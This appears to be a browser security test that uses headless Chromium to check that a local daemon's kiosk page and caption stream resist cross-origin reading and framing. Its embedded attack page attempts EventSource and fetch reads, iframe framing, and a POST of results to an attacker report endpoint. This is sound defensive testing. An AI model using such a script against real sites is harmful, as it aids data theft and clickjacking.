"""Real headless Chromium as the attacker against the kiosk routes: a page from another origin
opens the caption stream with EventSource, fetches ``/kiosk`` and ``/kiosk/events``, and frames
``/kiosk`` (a framed copy would be same-origin to the daemon, and a tricked touch would press).
None of it reads a caption or runs the page; then the same browser, on the daemon's own origin,
opens ``/kiosk`` and its stream works (the control that proves the requests do arrive)."""

from __future__ import annotations

import json

import pytest
from aiohttp import web

from rtedge.health import HealthServer
from rtedge.httpguard import GuardPolicy
from rtedge.kiosk import KioskPage
from rtedge.settings import Settings
from rtedge.state import Connection, State
from tests.browser import CHROMIUM, Reports, chromium, start_site
from tests.poll import until
from tests.support import free_port, recorder

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed"),
]

SECRET_WORDS = "the caption a foreign page must not read"

ATTACK = """<!doctype html><html><body><script>
const T = "%(target)s";
const out = {};
const report = (body) => fetch("%(report)s", {method: "POST", mode: "no-cors",
                                              body: JSON.stringify(body)});
async function attempt(name, fn) {
  try { out[name] = await fn(); } catch (e) { out[name] = "blocked: " + e; }
}
async function run() {
  out.events = await new Promise((resolve) => {
    const es = new EventSource(T + "/kiosk/events");
    es.onmessage = (e) => { es.close(); resolve("read: " + e.data); };
    es.onerror = () => { es.close(); resolve("blocked"); };
    setTimeout(() => { es.close(); resolve("timeout"); }, 5000);
  });
  await attempt("page", async () => (await (await fetch(T + "/kiosk")).text()));
  await attempt("events_fetch", async () => (await (await fetch(T + "/kiosk/events")).text()));
  // Framing: the framed page would run with the daemon's origin.
  out.frame = await new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.src = T + "/kiosk";
    frame.onload = () => resolve("loaded");
    document.body.appendChild(frame);
    setTimeout(() => resolve("no load event"), 3000);
  });
  await new Promise((r) => setTimeout(r, 1500));  // time for a framed page to connect
  await report(out);
  location.href = T + "/kiosk";  // the control: the daemon's own page, same origin
}
run().catch((e) => report({error: String(e)}));
</script></body></html>"""


async def test_foreign_pages_cannot_read_or_frame_the_kiosk_page() -> None:
    presses: list[str] = []
    state = State(connection=Connection.CONNECTED, transcript_assistant=SECRET_WORDS)
    kiosk = KioskPage(state, Settings.model_validate({"display": {"kiosk_page": True}}))
    health = HealthServer(
        state,
        "127.0.0.1",
        0,
        on_press=recorder(presses, "press"),
        on_release=recorder(presses, "release"),
        extra_routes=[kiosk.add_routes],
        guard=GuardPolicy.build("127.0.0.1"),
    )
    await health.start()
    target = f"http://127.0.0.1:{health.bound_port}"
    attacker_port = free_port()
    reports = Reports()

    async def page(request: web.Request) -> web.Response:
        text = ATTACK % {
            "target": target,
            "report": f"http://127.0.0.1:{attacker_port}/report",
        }
        return web.Response(text=text, content_type="text/html")

    app = web.Application()
    app.router.add_get("/page.html", page)
    app.router.add_post("/report", reports.handle)
    runner = await start_site(app, attacker_port)
    try:
        async with chromium(f"http://127.0.0.1:{attacker_port}/page.html"):
            attack = await reports.wait("frame")
            opened_during_attack = kiosk.streams_opened
            refused = dict(health.guard.refused)
            # The control: the same browser on the daemon's own origin gets the stream.
            await until(lambda: kiosk.streams_opened > opened_during_attack, within=20)
    finally:
        await runner.cleanup()
        await health.stop()
    print(f"ATTACK {attack}\nREFUSED {refused}")
    assert "error" not in attack, attack
    assert SECRET_WORDS not in json.dumps(attack)
    assert attack["events"] == "blocked", attack
    assert str(attack["page"]).startswith("blocked"), attack
    assert str(attack["events_fetch"]).startswith("blocked"), attack
    # Refused at the server (EventSource and both fetches carry the foreign Origin) ...
    assert refused.get("origin", 0) >= 3, refused
    # ... and the framed copy never ran: it would have opened the stream with no Origin at all.
    assert opened_during_attack == 0
    assert presses == []
